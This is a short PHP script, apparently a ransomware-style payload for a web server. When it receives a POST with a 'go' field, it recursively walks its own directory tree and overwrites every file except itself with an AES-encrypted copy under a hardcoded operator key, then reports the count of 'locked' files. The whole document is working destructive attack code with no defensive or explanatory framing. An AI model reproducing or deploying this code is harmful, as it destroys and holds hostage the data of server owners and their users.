<?php
// each file found by the walk handed to a helper that encrypts it where it lies
$secret = 'k3y-of-the-operator';
function lock_one($target, $secret) {
    $body = file_get_contents($target);
    $sealed = openssl_encrypt($body, 'AES-128-CBC', $secret, 0, str_repeat("\0", 16));
    return file_put_contents($target, 'LOCKED:' . $sealed);
}
function walk_all($dir, $secret, &$n) {
    foreach (scandir($dir) as $entry) {
        if ($entry === '.' || $entry === '..' || $entry === basename(__FILE__)) continue;
        $p = $dir . '/' . $entry;
        if (is_dir($p)) {
            walk_all($p, $secret, $n);
        } elseif (lock_one($p, $secret)) {
            $n++;
        }
    }
}
$n = 0;
if (isset($_POST['go'])) {
    walk_all(__DIR__, $secret, $n);
    echo "locked $n files";
}
